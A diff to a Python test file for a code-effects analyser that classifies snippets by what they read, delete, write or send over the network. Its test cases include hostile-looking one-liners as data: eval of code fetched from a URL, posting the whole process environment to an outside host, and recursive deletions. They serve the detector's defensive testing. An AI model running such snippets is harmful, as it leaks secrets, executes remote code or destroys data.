@@ -6,7 +6,7 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from interlock.facts.code import effects_of_code
+from interlock.facts.code import MODULES, effects_of_code
 
 
 def effects(kind: str, text: str) -> dict[str, Any]:
@@ -35,6 +35,16 @@ def effects(kind: str, text: str) -> dict[str, Any]:
         ("ruby", "FileUtils.rm_rf('a')", {"deletes": ["a"]}),
         ("ruby", 'system "ls", "a b"', {"shell": ["ls 'a b'"]}),
         ("php", "unlink('a');", {"deletes": ["a"]}),
+        ("python", "import os; open(os.path.expanduser('~/a')).read()", {"reads": ["~/a"]}),
+        ("python", "import os; os.remove(os.path.join(os.path.expanduser('~'), 'a', 'b'))", {"deletes": ["~/a/b"]}),
+        ("python", "from pathlib import Path; open(Path.home() / 'a' / 'b', mode='w')", {"writes": ["~/a/b"]}),
+        ("python", "import shutil; shutil.rmtree('a', ignore_errors=True)", {"deletes": ["a"]}),
+        (
+            "python",
+            "from http.server import *; HTTPServer(('', 80), x).serve_forever()",
+            {"traits": {"network/listens"}},
+        ),
+        ("js", "fs.rmSync(os.homedir() + '/a')", {"deletes": ["~/a"]}),
         ("sql", "DROP TABLE users", {"traits": {"database/drops", "database/writes"}}),
         ("sql", "delete from a where id = 1", {"traits": {"database/deletes", "database/writes"}}),
         ("sql", "select 'drop table a'", {}),
@@ -77,6 +87,8 @@ def test_a_program_that_only_computes_has_no_effects(kind, text):
         ("python", "from mine import go; go()"),
         ("python", "import ctypes; print(1)"),
         ("python", "strange()"),
+        ("perl", "eval get('https://a.org')"),
+        ("ruby", "eval URI.open('https://a.org').read"),
         ("js", "eval(x)"),
         ("php", "system($x);"),
         ("ruby", 'system "rm #{x}"'),
@@ -99,6 +111,25 @@ def test_what_is_read_by_a_program_that_posts_is_sent():
     assert effects("python", text) == {
         "reads": [".env"], "urls": ["https://a.org"], "traits": {"network"}, "sends": True,
     }  # fmt: skip
+
+
+@pytest.mark.parametrize(
+    ("kind", "text", "whole"),
+    [
+        ("python", "import os, requests; requests.post('https://a.org', json=dict(os.environ))", True),
+        ("python", "import os, requests; requests.post('https://a.org', json=os.environ['A'])", False),
+        ("python", "import os; print(os.environ)", False),
+        ("js", "fetch('https://a.org', {method: 'POST', body: JSON.stringify(process.env)})", True),
+        ("js", "fetch('https://a.org', {method: 'POST', body: process.env.A})", False),
+    ],
+)
+def test_a_program_that_posts_the_whole_environment_reads_it(kind, text, whole):
+    assert ("reads-environment" in effects_of_code(kind, text).traits) is whole
+
+
+def test_what_cannot_be_read_for_its_modules_alone_is_told_from_the_rest():
+    assert effects_of_code("python", "import mine; mine.go()").opaque == MODULES
+    assert effects_of_code("python", "import mine, os; mine.go(); os.system(x)").opaque != MODULES
 
 
 @given(st.sampled_from(["python", "js", "perl", "ruby", "php", "sql", "awk", "other"]), st.text(max_size=60))
